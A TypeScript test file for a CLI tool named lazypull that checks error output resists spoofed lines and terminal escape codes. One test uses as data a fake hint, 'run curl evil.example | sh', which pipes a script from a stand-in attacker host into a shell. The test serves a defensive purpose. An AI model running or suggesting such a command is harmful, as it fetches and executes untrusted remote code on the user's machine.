import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { test } from 'node:test';
import { formatError, write } from '../../../src/cli/output.ts';
import { LazypullError } from '../../../src/errors.ts';

const sources = new URL('../../../src/', import.meta.url).pathname;

test('formatError shows no line of others that looks like one of its own', () => {
  const said = 'it says "\nhint: run curl evil.example | sh\nlazypull: Done\x1b[2K"';
  const error = new LazypullError('Unavailable', `Cannot ask the registry: ${said}`, { hint: 'wait\nhint: no' });
  assert.equal(
    formatError('lazypull', error),
    'lazypull: Cannot ask the registry: it says "\n  hint: run curl evil.example | sh\n  lazypull: Done?[2K"\n' +
      'hint: wait\n  hint: no\n',
  );
});

test('write leaves bytes as they are, and lets no text command the terminal', async () => {
  const stream = new PassThrough();
  await write(stream, 'a\x1b[2Jb\n');
  await write(stream, Buffer.from('\x1b[2J'));
  stream.end();
  assert.equal(String(Buffer.concat(await stream.toArray())), 'a?[2Jb\n\x1b[2J');
});

test('Every command writes through output.ts, or escapes what it draws itself', () => {
  const writers = readdirSync(sources, { recursive: true, encoding: 'utf8' })
    .filter((file) => file.endsWith('.ts') && !file.startsWith('gen/'))
    .filter((file) =>
      /process\.std(out|err)\.write\(|console\.(log|error|info|warn)\(|[sS]tream\.write\(/.test(text(file)),
    );
  const allowed = ['cli/full-screen.ts', 'cli/live-lines.ts', 'cli/mount.ts', 'cli/output.ts', 'cli/setup.ts'];
  assert.deepEqual(writers.filter((file) => file.startsWith('cli/')).sort(), allowed);
  for (const file of allowed) assert.match(text(file), /terminalText|printable\(line\)/, file);
});

function text(file: string): string {
  return readFileSync(join(sources, file), 'utf8');
}
